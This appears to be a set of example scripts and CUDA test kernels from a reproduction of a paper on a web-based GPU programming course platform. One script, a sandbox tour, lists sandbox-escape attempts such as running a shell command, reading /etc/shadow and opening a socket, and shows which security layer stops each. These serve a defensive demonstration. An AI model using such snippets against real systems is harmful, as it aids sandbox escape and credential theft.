    attempt = gpu.run_attempt("PUMPS-2015", attendee, "vector-add")
    print(f"  vector-add after zone failure: correct={attempt.correct} "
          f"(failovers={gpu.broker.failovers})")

    # --- the admin dashboard ----------------------------------------------
    for driver in gpu.drivers:
        driver.health_check()
    print("\n" + gpu.dashboard.render())


if __name__ == "__main__":
    main()
