"""The paper's future work in action: automated feedback and hints.

A struggling student iterates through three classic bugs on the
Vector Addition lab; after every failed attempt the platform's
automated-feedback engine (paper §IV-D / §VIII future work) diagnoses
the failure, and the student pulls staged hints on demand — no teaching
staff involved, which is the entire point at MOOC scale.

Run: python examples/automated_feedback.py
"""

from repro import CourseOffering, WebGPU, get_lab
from repro.cluster import ManualClock
from repro.labs.mutations import buggy_source, mutations_for

LAB = get_lab("vector-add")


def main() -> None:
    clock = ManualClock()
    gpu = WebGPU(clock=clock, num_workers=1, rate_per_minute=600.0)
    course = gpu.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    student = gpu.users.register("struggling@student.example", "Sam", "pw")
    course.enroll(student.user_id)

    bugs = [m for m in mutations_for("vector-add")
            if m.name in ("typo-in-identifier", "missing-boundary-check",
                          "wrong-operator")]

    for bug in bugs:
        print(f"\n=== Sam submits a version with: {bug.description} ===")
        gpu.save_code("HPP-2015", student, "vector-add", buggy_source(bug))
        clock.advance(300)
        try:
            attempt = gpu.compile_code("HPP-2015", student, "vector-add")
            if attempt.compile_ok:
                clock.advance(60)
                # grading runs every dataset: boundary bugs surface on
                # the non-block-multiple sizes
                attempt, grade = gpu.submit_for_grading(
                    "HPP-2015", student, "vector-add")
                print(f"graded: {grade.total_points:.0f}/100")
            else:
                print("compile failed")
        except Exception as exc:
            print(f"platform error: {exc}")
        for item in gpu.get_feedback("HPP-2015", student, "vector-add"):
            print(f"  feedback {item}")
        hint = gpu.request_hint("HPP-2015", student, "vector-add")
        print(f"  hint: {hint}")

    print("\n=== Sam applies the advice and submits the real solution ===")
    gpu.save_code("HPP-2015", student, "vector-add", LAB.solution)
    clock.advance(300)
    _, grade = gpu.submit_for_grading("HPP-2015", student, "vector-add")
    print(f"final grade: {grade.total_points:.0f}/100 "
          f"(hints used: {gpu.hints.hints_taken(student.user_id, 'vector-add')})")


if __name__ == "__main__":
    main()
