// Golden-corpus: OpenACC pragmas, prototypes, multi-declarator lines,
// pointer-to-pointer parameters, ternaries, prefix/postfix mixes.
#include <stdio.h>

#define N 1024

void initData(float *data, int n);

#pragma acc routine
float scale(float v) { return v * 0.5f; }

void hostScan(float *data, float *out, int n) {
    float running = 0.0f;
    #pragma acc parallel loop
    for (int i = 0; i < n; i++) {
        out[i] = scale(data[i]);
    }
    for (int i = 0; i < n; ++i) {
        running += out[i];
        out[i] = running;
    }
}

void initData(float *data, int n) {
    for (int i = 0; i < n; i++)
        data[i] = (i % 2 == 0) ? 1.0f : -1.0f;
}

int main() {
    float hostIn[N], hostOut[N];
    float *pIn = hostIn, *pOut = hostOut, **indirect = &pIn;
    initData(*indirect, N);
    hostScan(pIn, pOut, N);
    printf("scan[%d] = %f\n", N - 1, hostOut[N - 1]);
    return hostOut[N - 1] < 0.0f ? 1 : 0;
}
