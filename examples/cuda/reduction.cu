// Golden-corpus: tree reduction with a dynamic-shared-memory launch.
__global__ void reduceSum(float *in, float *out, int n) {
    __shared__ float sdata[256];
    unsigned int tid = threadIdx.x;
    unsigned int i = blockIdx.x * blockDim.x * 2 + threadIdx.x;
    sdata[tid] = (i < n ? in[i] : 0.0f) +
                 (i + blockDim.x < n ? in[i + blockDim.x] : 0.0f);
    __syncthreads();
    for (unsigned int s = blockDim.x / 2; s > 0; s >>= 1) {
        if (tid < s)
            sdata[tid] += sdata[tid + s];
        __syncthreads();
    }
    if (tid == 0)
        out[blockIdx.x] = sdata[0];
}

int main() {
    int n = 4096;
    int threads = 128;
    int blocks = (n + threads * 2 - 1) / (threads * 2);
    float *dIn, *dOut;
    cudaMalloc((void **)&dIn, n * sizeof(float));
    cudaMalloc((void **)&dOut, blocks * sizeof(float));
    reduceSum<<<blocks, threads, threads * sizeof(float)>>>(dIn, dOut, n);
    while (blocks > 1) {
        int next = (blocks + threads * 2 - 1) / (threads * 2);
        reduceSum<<<next, threads, threads * sizeof(float)>>>(dOut, dOut,
                                                              blocks);
        blocks = next;
    }
    return 0;
}
