// Golden-corpus: atomics, hex masks with integer suffixes, char literals.
#define NUM_BINS 128
#define MASK 0x7Fu

__constant__ unsigned int saturation = 0xFFUL;

__global__ void histo(char *input, unsigned int *bins, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    int stride = blockDim.x * gridDim.x;
    while (i < n) {
        char c = input[i];
        if (c >= 'a' && c <= 'z')
            atomicAdd(&bins[c & MASK], 1);
        i += stride;
    }
}

__global__ void saturate(unsigned int *bins) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < NUM_BINS && bins[i] > saturation)
        bins[i] = saturation;
}

int main() {
    int n = 1 << 16;
    char *dInput;
    unsigned int *dBins;
    cudaMalloc((void **)&dInput, n * sizeof(char));
    cudaMalloc((void **)&dBins, NUM_BINS * sizeof(unsigned int));
    cudaMemset(dBins, 0, NUM_BINS * sizeof(unsigned int));
    histo<<<64, 256>>>(dInput, dBins, n);
    saturate<<<(NUM_BINS + 255) / 256, 256>>>(dBins);
    return 0;
}
