// Golden-corpus: the canonical first lab (MP1-style vector addition).
#include <wb.h>

#define BLOCK_SIZE 256

__global__ void vecAdd(float *a, float *b, float *c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) {
        c[i] = a[i] + b[i];
    }
}

int main(int argc, char **argv) {
    wbArg_t args;
    int n = 1024;
    float *dA, *dB, *dC;
    args = wbArg_read(argc, argv);
    cudaMalloc((void **)&dA, n * sizeof(float));
    cudaMalloc((void **)&dB, n * sizeof(float));
    cudaMalloc((void **)&dC, n * sizeof(float));
    dim3 grid((n + BLOCK_SIZE - 1) / BLOCK_SIZE, 1, 1);
    dim3 block(BLOCK_SIZE, 1, 1);
    vecAdd<<<grid, block>>>(dA, dB, dC, n);
    cudaDeviceSynchronize();
    cudaFree(dA);
    cudaFree(dB);
    cudaFree(dC);
    return 0;
}
