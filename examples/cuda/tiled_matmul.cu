// Golden-corpus: shared-memory tiled matrix multiply (MP3-style).
#define TILE 16

__global__ void matMul(float *A, float *B, float *C, int m, int k, int n) {
    __shared__ float tileA[TILE][TILE];
    __shared__ float tileB[TILE][TILE];
    int row = blockIdx.y * TILE + threadIdx.y;
    int col = blockIdx.x * TILE + threadIdx.x;
    float acc = 0.0f;
    for (int t = 0; t < (k + TILE - 1) / TILE; ++t) {
        tileA[threadIdx.y][threadIdx.x] =
            (row < m && t * TILE + threadIdx.x < k)
                ? A[row * k + t * TILE + threadIdx.x]
                : 0.0f;
        tileB[threadIdx.y][threadIdx.x] =
            (col < n && t * TILE + threadIdx.y < k)
                ? B[(t * TILE + threadIdx.y) * n + col]
                : 0.0f;
        __syncthreads();
        for (int i = 0; i < TILE; ++i)
            acc += tileA[threadIdx.y][i] * tileB[i][threadIdx.x];
        __syncthreads();
    }
    if (row < m && col < n)
        C[row * n + col] = acc;
}

int main() {
    int m = 64, k = 32, n = 64;
    float *dA, *dB, *dC;
    cudaMalloc((void **)&dA, m * k * sizeof(float));
    cudaMalloc((void **)&dB, k * n * sizeof(float));
    cudaMalloc((void **)&dC, m * n * sizeof(float));
    dim3 grid((n + TILE - 1) / TILE, (m + TILE - 1) / TILE);
    dim3 block(TILE, TILE);
    matMul<<<grid, block>>>(dA, dB, dC, m, k, n);
    return 0;
}
