// Golden-corpus: 1D stencil — casts, sizeof, init lists, do/while, switch.
#define RADIUS 3
#define WIDTH 512

__constant__ float weights[2 * RADIUS + 1] = {0.05f, 0.1f, 0.2f, 0.3f,
                                              0.2f, 0.1f, 0.05f};

__global__ void stencil1d(const float *in, float *out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n)
        return;
    float acc = 0.0f;
    for (int off = -RADIUS; off <= RADIUS; off++) {
        int j = i + off;
        if (j < 0)
            j = 0;
        else if (j >= n)
            j = n - 1;
        acc += weights[off + RADIUS] * in[j];
    }
    out[i] = acc;
}

int classify(int width) {
    switch (width) {
        case 256:
            return 1;
        case WIDTH:
            return 2;
        default:
            return 0;
    }
}

int main() {
    float *dIn, *dOut;
    int n = WIDTH;
    int pass = 0;
    cudaMalloc((void **)&dIn, (size_t)n * sizeof(float));
    cudaMalloc((void **)&dOut, (size_t)n * sizeof(float));
    do {
        stencil1d<<<(n + 127) / 128, 128>>>(dIn, dOut, n);
        float *tmp = dIn;
        dIn = dOut;
        dOut = tmp;
        pass++;
    } while (pass < 2);
    return classify(n) == 2 ? 0 : 1;
}
