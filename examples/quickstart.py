"""Quickstart: one student solves Vector Addition on WebGPU.

Creates the platform (web-server + database + two simulated GPU
workers), a course, and a student; then walks the six student actions:
edit, compile, run against a dataset, answer the question, submit for
grading, and inspect history — and finally resubmits the unchanged
program to show the artifact cache answering warm requests.

Run: python examples/quickstart.py
"""

from repro import CourseOffering, WebGPU, get_lab
from repro.cluster import ManualClock, PlatformCaches


def main() -> None:
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    gpu = WebGPU(clock=clock, num_workers=2, caches=caches)

    # --- instructor: create the course and offer a lab -----------------
    course = gpu.create_course(
        CourseOffering(code="HPP", year=2015,
                       deadlines={"vector-add": 7 * 86400.0}),
        ["vector-add"])
    lab = get_lab("vector-add")
    print(f"course {course.offering.key} offers: {lab.title}")

    # --- student signs up and enrolls ----------------------------------
    student = gpu.users.register("you@example.com", "You", "secret")
    course.enroll(student.user_id)

    # 1. the editor autosaves the skeleton as the student reads it
    gpu.save_code("HPP-2015", student, "vector-add", lab.skeleton)

    # 2. compile what's there (the skeleton compiles but does nothing)
    clock.advance(60)
    attempt = gpu.compile_code("HPP-2015", student, "vector-add")
    print(f"\ncompile skeleton : ok={attempt.compile_ok}")

    # run the empty kernel: wbSolution output is all zeros -> mismatch
    clock.advance(60)
    attempt = gpu.run_attempt("HPP-2015", student, "vector-add", 0)
    print(f"run skeleton     : correct={attempt.correct}")
    print("  " + attempt.report.splitlines()[0])

    # ... the student writes the kernel (we paste the reference) ...
    gpu.save_code("HPP-2015", student, "vector-add", lab.solution,
                  reason="save")

    # 3. run against dataset 2
    clock.advance(60)
    attempt = gpu.run_attempt("HPP-2015", student, "vector-add", 2)
    print(f"\nrun solution     : correct={attempt.correct} "
          f"(worker={attempt.worker}, {attempt.service_seconds:.2f}s)")

    # 4. answer the short-form question
    gpu.answer_question("HPP-2015", student, "vector-add", 0,
                        "The grid is rounded up to whole blocks, so the "
                        "last block has threads past the end of the data.")

    # 5. submit for grading: every dataset + the rubric
    clock.advance(60)
    attempt, grade = gpu.submit_for_grading("HPP-2015", student,
                                            "vector-add")
    print(f"\nsubmitted        : grade {grade.total_points:.0f}/"
          f"{lab.rubric.total}")

    # 6. the history views
    revisions = gpu.code_history("HPP-2015", student, "vector-add")
    attempts = gpu.attempt_history("HPP-2015", student, "vector-add")
    print(f"\nhistory          : {len(revisions)} revision(s), "
          f"{len(attempts)} attempt(s)")
    for a in attempts:
        print(f"  [{a.kind.value:8s}] t={a.submitted_at:5.0f}s "
              f"correct={a.correct}")

    # --- warm vs cold: resubmit the identical program -------------------
    # The first submission was a cold miss (full compile + all datasets);
    # an identical resubmission is answered from the grading cache.
    clock.advance(60)
    _, grade2 = gpu.submit_for_grading("HPP-2015", student, "vector-add")
    snap = caches.snapshot()
    print(f"\nresubmit (warm)  : grade {grade2.total_points:.0f}/"
          f"{lab.rubric.total} — same program, served from cache")
    print(f"compile cache    : {snap['compile']['hits']} hit(s) / "
          f"{snap['compile']['misses']} miss(es), hit rate "
          f"{snap['compile']['hit_rate']:.0%} "
          f"(front-end ran {caches.compile.compile_count}x)")
    print(f"grading cache    : {snap['results']['hits']} hit(s) / "
          f"{snap['results']['misses']} miss(es), hit rate "
          f"{snap['results']['hit_rate']:.0%}, "
          f"{snap['results']['seconds_saved']:.1f}s of grading saved")


if __name__ == "__main__":
    main()
