"""Simulate the three Coursera offerings: Table I and Figure 1.

Regenerates the paper's two quantitative artifacts from the calibrated
population model, renders Figure 1 as an ASCII chart, and sizes a GPU
fleet against the trace (static vs deadline-aware autoscaling).

Run: python examples/mooc_semester.py
"""

import numpy as np

from repro.cluster.scaling import DeadlineAwareScaler, ReactiveAutoscaler
from repro.simulate import HPP_2015, StudentPopulation
from repro.simulate.funnel import funnel_table
from repro.simulate.scenarios import COURSERA_OFFERINGS
from repro.simulate.workload import (
    jobs_from_activity,
    sample_service_times,
    simulate_fleet,
)


def ascii_series(values: np.ndarray, width: int = 78,
                 height: int = 12) -> str:
    """A crude terminal rendering of the Figure 1 curve."""
    bucket = max(1, len(values) // width)
    cols = [values[i:i + bucket].max()
            for i in range(0, len(values) - bucket + 1, bucket)]
    peak = max(cols) or 1
    rows = []
    for level in range(height, 0, -1):
        threshold = peak * level / height
        line = "".join("#" if c >= threshold else " " for c in cols)
        rows.append(f"{threshold:6.0f} |{line}")
    rows.append("       +" + "-" * len(cols))
    return "\n".join(rows)


def main() -> None:
    # ---------------- Table I -------------------------------------------
    print("Table I — registered users, completions, certificates")
    print(f"{'offering':<10} {'registered':>10} {'completed':>10} "
          f"{'rate':>7} {'certs':>6}")
    for result in funnel_table(COURSERA_OFFERINGS):
        print(f"{result.name:<10} {result.registered:>10} "
              f"{result.completions:>10} "
              f"{100 * result.completion_rate:>6.2f}% "
              f"{result.certificates:>6}")
    print("(paper:    36896/2729/7.40%/-, 33818/1061/3.14%/286, "
          "35940/1141/3.15%/442)")

    # ---------------- Figure 1 ------------------------------------------
    print("\nFigure 1 — active students per hour, HPP 2015 (Feb 8-Apr 15)")
    population = StudentPopulation(HPP_2015.figure1_population_params())
    result = population.generate()
    series = result.hourly_active
    print(ascii_series(series.counts))
    print(f"peak {series.peak} (paper: 112 on Feb 18); late-course low "
          f"{series.daily_max()[7:].min()} (paper: 8 on Apr 9); spikes on "
          "Wednesdays before the Thursday deadline")

    # ---------------- fleet sizing over the trace ------------------------
    print("\nProvisioning the worker fleet against this trace")
    arrivals = jobs_from_activity(series, seed=1)
    services = sample_service_times(len(arrivals), seed=2)
    static = simulate_fleet(arrivals, services, num_workers=8)

    scaler = DeadlineAwareScaler(
        base=ReactiveAutoscaler(target_utilization=0.6, min_workers=1,
                                max_workers=16, cooldown_s=0.0),
        deadlines=tuple((week * 7 + 4) * 86400.0 for week in range(10)),
        boost_workers=6)
    elastic = simulate_fleet(
        arrivals, services,
        scaler=lambda now, demand, cur: scaler.target_workers(
            now, demand, cur).target,
        scale_interval_s=3600.0)

    print(f"{'policy':<28} {'GPU-hours':>10} {'p95 wait':>9} {'util':>6}")
    for name, fleet in (("static (8 GPUs, for peak)", static),
                        ("deadline-aware autoscaler", elastic)):
        print(f"{name:<28} {fleet.gpu_hours:>10.0f} "
              f"{fleet.p95_wait:>8.1f}s {fleet.utilization:>6.1%}")
    print(f"\n{len(arrivals)} jobs served; autoscaling used "
          f"{elastic.gpu_hours / static.gpu_hours:.0%} of the static "
          "fleet's GPU-hours — the Section II-C point: a fleet sized for "
          "the start of the course idles at the end.")


if __name__ == "__main__":
    main()
