"""A tour of the Section III-D security stack.

Submits a series of increasingly creative escape attempts against a
worker and shows which layer stops each one; then demonstrates the
offline-development path (Section IV-C) where the same code runs
without any sandbox.

Run: python examples/sandbox_tour.py
"""

import dataclasses

from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.labs import get_lab
from repro.wb import run_offline

LAB = get_lab("vector-add")
HOOK = 'wbLog(TRACE, "The input length is ", inputLength);'

ATTEMPTS = [
    ("honest solution", LAB.solution),
    ("inline assembly", LAB.solution.replace(
        "out[i] = in1[i] + in2[i];", 'asm("int3");')),
    ("asm hidden in a macro", "#define SNEAK asm\n" + LAB.solution.replace(
        "out[i] = in1[i] + in2[i];", 'SNEAK("int3");')),
    ("shell command", LAB.solution.replace(HOOK, 'system("id");')),
    ("read /etc/shadow", LAB.solution.replace(
        HOOK, 'fopen("/etc/shadow", "r");')),
    ("open a socket", LAB.solution.replace(HOOK, "socket(2, 1, 0);")),
    ("spin forever", LAB.solution.replace(
        HOOK, "while (1) { inputLength = inputLength; }")),
    ("out-of-bounds write", LAB.solution.replace(
        "out[i] = in1[i] + in2[i];", "out[i + 100000] = 1.0f;")),
]


def main() -> None:
    clock = ManualClock()
    worker = GpuWorker(WorkerConfig(), clock=clock)
    lab = dataclasses.replace(LAB, run_limit_s=0.5)

    print("Submitting to a sandboxed worker "
          f"(policy: {worker.config.policy.name}, "
          f"run limit {lab.run_limit_s}s)\n")
    print(f"{'attempt':<24} {'verdict':<16} detail")
    print("-" * 76)
    for name, source in ATTEMPTS:
        result = worker.process(Job(lab=lab, source=source,
                                    kind=JobKind.RUN_DATASET))
        if not result.compile_ok:
            verdict = "compile-stage"
            detail = result.compile_message.splitlines()[0]
        else:
            outcome = result.datasets[0]
            verdict = outcome.outcome
            detail = ("Solution is correct." if outcome.correct
                      else outcome.report.splitlines()[0])
        print(f"{name:<24} {verdict:<16} {detail[:40]}")

    print("\nNote the macro trick: the blacklist scans the *unparsed* "
          "text (paper default),\nso `#define SNEAK asm` is caught only "
          "because `asm` itself appears in the file.\nSee the "
          "bench_sandbox_security ablation for the post-preprocessor mode.")

    # ---- offline development: no sandbox, raw toolchain ------------------
    print("\nOffline development (Section IV-C): same lab, your machine, "
          "no sandbox")
    result = run_offline(LAB.solution, LAB.dataset(0))
    print(f"  offline run: passed={result.passed}, simulated kernel time "
          f"{result.kernel_seconds * 1e6:.1f} us")
    print(f"  program log: {result.log}")


if __name__ == "__main__":
    main()
