"""Instructor workflow: author and deploy a brand-new lab.

Builds a lab that is *not* in the Table II catalog — SAXPY — from
scratch: markdown description, skeleton, reference solution, a custom
dataset generator registered with the wb library, and a rubric; then
deploys it to a course and grades a student submission against it.
This is the Section IV-E "instructor lab creation" path.

Run: python examples/author_a_lab.py
"""

import numpy as np

from repro import CourseOffering, WebGPU
from repro.cluster import ManualClock
from repro.labs.base import LabDefinition, Rubric
from repro.wb.datasets import GeneratedData, generators

# --- 1. the dataset generator (instructor-provided test generator) ------


def gen_saxpy(seed: int, size: int) -> GeneratedData:
    rng = np.random.default_rng(seed)
    a = np.float32(rng.uniform(0.5, 4.0))
    x = rng.random(size, dtype=np.float32)
    y = rng.random(size, dtype=np.float32)
    return GeneratedData(
        inputs={"input0": np.array([a], dtype=np.float32),
                "input1": x, "input2": y},
        expected=(a * x + y).astype(np.float32))


generators["saxpy"] = gen_saxpy

# --- 2. skeleton and reference solution -----------------------------------

_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int one, len;
  float *hostA, *hostX, *hostY, *hostOut;
  float *deviceX, *deviceY, *deviceOut;

  args = wbArg_read(argc, argv);
  hostA = (float *)wbImport(wbArg_getInputFile(args, 0), &one);
  hostX = (float *)wbImport(wbArg_getInputFile(args, 1), &len);
  hostY = (float *)wbImport(wbArg_getInputFile(args, 2), &len);
  hostOut = (float *)malloc(len * sizeof(float));

  cudaMalloc((void **)&deviceX, len * sizeof(float));
  cudaMalloc((void **)&deviceY, len * sizeof(float));
  cudaMalloc((void **)&deviceOut, len * sizeof(float));
  cudaMemcpy(deviceX, hostX, len * sizeof(float), cudaMemcpyHostToDevice);
  cudaMemcpy(deviceY, hostY, len * sizeof(float), cudaMemcpyHostToDevice);

  saxpy<<<(len + 127) / 128, 128>>>(hostA[0], deviceX, deviceY, deviceOut,
                                    len);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOut, deviceOut, len * sizeof(float),
             cudaMemcpyDeviceToHost);
  wbSolution(args, hostOut, len);

  cudaFree(deviceX);
  cudaFree(deviceY);
  cudaFree(deviceOut);
  free(hostOut);
  return 0;
}
'''

SKELETON = r'''
#include <wb.h>

__global__ void saxpy(float a, float *x, float *y, float *out, int len) {
  //@@ out[i] = a * x[i] + y[i]
}
''' + _HOST

SOLUTION = r'''
#include <wb.h>

__global__ void saxpy(float a, float *x, float *y, float *out, int len) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < len) {
    out[i] = a * x[i] + y[i];
  }
}
''' + _HOST

# --- 3. the lab definition (description markdown + rubric + config) --------

SAXPY = LabDefinition(
    slug="saxpy",
    title="SAXPY",
    description="""# SAXPY

Compute `out = a * x + y` for a scalar `a` and vectors `x`, `y`.

## Objectives

* Pass a scalar kernel argument by value.
* One more rep of the global-index + boundary-check pattern.
""",
    skeleton=SKELETON,
    solution=SOLUTION,
    generator="saxpy",
    dataset_sizes=(32, 257, 1000),
    courses=frozenset({"408"}),
    rubric=Rubric(dataset_points=85, compile_points=15, question_points=0),
)


def main() -> None:
    # validate the authored lab offline before deploying (what a careful
    # instructor does; PUMPS showed rushed authoring is error-prone)
    from repro.labs.base import execute_lab_source
    for index in range(len(SAXPY.dataset_sizes)):
        result = execute_lab_source(SAXPY, SAXPY.solution,
                                    SAXPY.dataset(index))
        assert result.passed, result.compare.report()
    print("reference solution validated against all "
          f"{len(SAXPY.dataset_sizes)} datasets")

    # deploy to a course: the platform accepts any LabDefinition
    clock = ManualClock()
    gpu = WebGPU(clock=clock, num_workers=1)
    course = gpu.create_course(CourseOffering(code="408", year=2016), [])
    course.labs[SAXPY.slug] = SAXPY
    print(f"deployed '{SAXPY.title}' to {course.offering.key}")

    # a student takes it
    student = gpu.users.register("s@illinois.edu", "Student", "pw")
    course.enroll(student.user_id)
    gpu.save_code("408-2016", student, "saxpy", SAXPY.solution)
    clock.advance(60)
    attempt, grade = gpu.submit_for_grading("408-2016", student, "saxpy")
    print(f"student submission: correct={attempt.correct}, "
          f"grade={grade.total_points:.0f}/{SAXPY.rubric.total}")


if __name__ == "__main__":
    main()
